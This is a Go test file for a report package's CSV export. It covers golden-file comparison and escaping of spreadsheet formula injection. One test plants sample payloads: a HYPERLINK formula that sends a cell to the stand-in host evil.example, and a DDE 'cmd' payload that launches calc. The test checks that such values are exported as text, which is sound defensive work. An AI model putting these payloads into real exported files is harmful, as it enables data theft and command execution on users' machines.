package report

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// golden compares got with testdata/name, rewritten only with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/report -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; if the change is intended, run go test ./internal/report -update and review the diff", path)
	}
}

func TestCSVGolden(t *testing.T) {
	for name, path := range examples {
		t.Run(name, func(t *testing.T) {
			res := run(t, path)
			var buf bytes.Buffer
			if err := Write(&buf, res, "csv"); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
			if err != nil {
				t.Fatalf("not RFC 4180 CSV: %v", err)
			}
			if len(recs) != len(res.Risks)+1 || strings.Join(recs[0], ",") != strings.Join(registerHeader, ",") {
				t.Fatalf("%d records for %d risks; header %v", len(recs), len(res.Risks), recs[0])
			}
			golden(t, name+".csv", buf.Bytes())
		})
	}
}

// TestCSVFormulaInjection: text from the model that a spreadsheet would
// evaluate as a formula is exported as text.
func TestCSVFormulaInjection(t *testing.T) {
	res := run(t, examples["practice"])
	r := &res.Risks[0]
	r.Title = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r.Elements[0].Label = "+1+cmd|' /C calc'!A0"
	r.Owner, r.Tracking = "@SUM(1+1)", nil
	res.Plan = nil
	r.Citations[0].Citation = "-2+3"
	r.ID = "\t=1+1"
	var buf bytes.Buffer
	if err := CSV(&buf, res); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range recs[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("column %s starts with %q: %q", registerHeader[i], c[0], c)
		}
	}
	if recs[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("title %q: want the text kept after a quote", recs[1][1])
	}
}

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", "164.308(a)(1)": "164.308(a)(1)", "'quoted": "'quoted",
	} {
		if got := cell(in); got != want {
			t.Errorf("cell(%q) = %q, want %q", in, got, want)
		}
	}
}
